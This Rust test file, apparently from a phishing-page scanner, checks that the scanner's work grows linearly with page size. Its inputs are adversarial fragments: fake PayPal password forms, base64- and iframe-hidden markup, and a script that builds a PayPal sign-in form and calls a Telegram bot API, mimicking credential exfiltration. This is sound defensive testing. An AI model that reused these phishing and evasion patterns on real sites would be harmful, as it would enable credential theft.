//! Tests that the work of the check grows no faster than the page, whatever it contains. Work is counted, not timed.

use super::facts::PageFacts;
use super::line_numbers::LineNumbers;
use super::reader::script;
use super::reader::{self, FILE, Origin};
use super::rules::Rules;
use super::upload::{File, Upload};
use super::verdict::{SCORED_KINDS, UploadScorer};

const UNITS: [&str; 26] = [
    "<",
    "<a>",
    "<!--",
    "<!-- -",
    "<a b=c d='",
    "<script><!--<script>",
    "</script><script>",
    "&#&amp;&#x&nbs",
    "<title>PayPal</title>",
    "<svg><math><title>",
    "<svg><foreignObject><svg>",
    "<form action=x.php><input type=password name=password>",
    "<label for=a>PayPal password</label>",
    "<script>atob('PGZvcm0+PGlucHV0IHR5cGU9cGFzc3dvcmQ+')</script>",
    "<script>fetch('\\'url:\\\"`innerHTML atob(</script>",
    "<iframe srcdoc='<iframe srcdoc=&quot;<input type=password>&quot;>'></iframe>",
    "<iframe src='data:text/html;base64,PGlmcmFtZSBzcmM9ZGF0YTp0ZXh0L2h0bWwsPGlucHV0Pj4='></iframe>",
    "<a onclick='document.write(unescape(\"%3Cform%3E%3Cinput%3E\"))'>",
    "paypal sign in to your paypal account \u{a9} paypal ",
    "\u{41f}\u{430}\u{440}\u{43e}\u{43b}\u{44c} ",
    "<span style='display:none'>x</span>",
    "<noframes><noframes>",
    "<p hidden>x<ul><li hidden>x</ol>",
    "<table><td hidden></tr>",
    "<style>/*{}*/.a:not(.b,.c) .d{display:/**/none}</style>",
    "<style>((((.a[,{display:none}/*",
];

/// More units for documents in XML.
const XML_UNITS: [&str; 9] = [
    "<!ENTITY",
    "<!ENTITY ",
    "<!ENTITY a ",
    "<!ENTITY a '",
    "<!ENTITY a '&#97;\"'><!ENTITY b \"&",
    "<!ATTLIST",
    "<!ATTLIST a xmlns CDATA '",
    "<!ATTLIST a xmlns CDATA 'b' ",
    "<?xml-stylesheet <a xmlns:b='http://www.w3.org/1999/XSL/Transform' ",
];

fn xml_work(page: &str, rules: &Rules) -> usize {
    let mut facts = PageFacts::default();
    reader::read(page, Origin { xml: true, ..FILE }, &mut facts, rules);
    facts.work
}

fn work(page: &str, rules: &Rules) -> usize {
    let mut facts = PageFacts::default();
    reader::read(page, FILE, &mut facts, rules);
    script::read(page, 0, 0, &mut facts, rules);
    facts.work
}

#[test]
fn twice_the_page_is_at_most_twice_the_work() {
    let rules = Rules::builtin();
    let html = UNITS.iter().map(|unit| (unit, work as fn(&str, &Rules) -> usize));
    let xml = UNITS.iter().chain(&XML_UNITS).map(|unit| (unit, xml_work as fn(&str, &Rules) -> usize));
    for (unit, work) in html.chain(xml) {
        let page = |bytes: usize| unit.repeat(bytes / unit.len());
        let (once, twice) = (work(&page(64 << 10), &rules), work(&page(128 << 10), &rules));
        assert!(twice <= 2 * once + once / 4 + 4096, "{unit}: {once}, then {twice}");
        assert!(twice <= 200 * (128 << 10), "{unit}: {twice}");
    }
}

#[test]
fn a_script_is_read_once_however_many_pages_load_it() {
    let rules = Rules::builtin();
    let script = "a.innerHTML='<p>Enter your code</p><input name=code>';".repeat(10_000);
    let work = |pages: usize| {
        let paths: Vec<String> = (0..pages).map(|page| format!("{page}.html")).collect();
        let mut files = vec![File { path: "all.js", text: &script }];
        files.extend(paths.iter().map(|path| File { path, text: "<h1>Hi</h1><script src=all.js></script>" }));
        let mut work = 0;
        Upload::new(&files).for_each_file(&rules, &SCORED_KINDS, |_, _, facts| work += facts.work);
        work
    };
    let (few, many) = (work(20), work(400));
    assert!(many <= few + (4 << 20), "{few}, then {many}");
}

#[test]
fn lines_of_a_script_are_counted_once_however_many_pages_are_refused_for_it() {
    let rules = Rules::builtin();
    let script = format!(
        "{}a.innerHTML='<h1>Sign in to your PayPal account</h1><input name=user><input type=password>';\
         fetch('https://api.telegram.org/bot1:INVALID/sendMessage')",
        "let x = 1;\n".repeat(100_000)
    );
    let work = |pages: usize| {
        let paths: Vec<String> = (0..pages).map(|page| format!("{page}.html")).collect();
        let mut files = vec![File { path: "all.js", text: &script }];
        files.extend(paths.iter().map(|path| File { path, text: "<script src=all.js></script>" }));
        let upload = Upload::new(&files);
        let mut scorer = UploadScorer::new(&upload, &rules);
        upload.for_each_file(&rules, &SCORED_KINDS, |file, _, facts| scorer.score_page(file, facts));
        let mut lines = LineNumbers::default();
        let verdict = scorer.finish_with(&mut lines);
        assert!(
            verdict.refused && verdict.reasons.iter().all(|reason| reason.line == 100_001),
            "{verdict:?}"
        );
        lines.work
    };
    let (few, many) = (work(2), work(300));
    assert!(few <= 2 * script.len() && many <= 5 * script.len(), "{few}, then {many}");
}
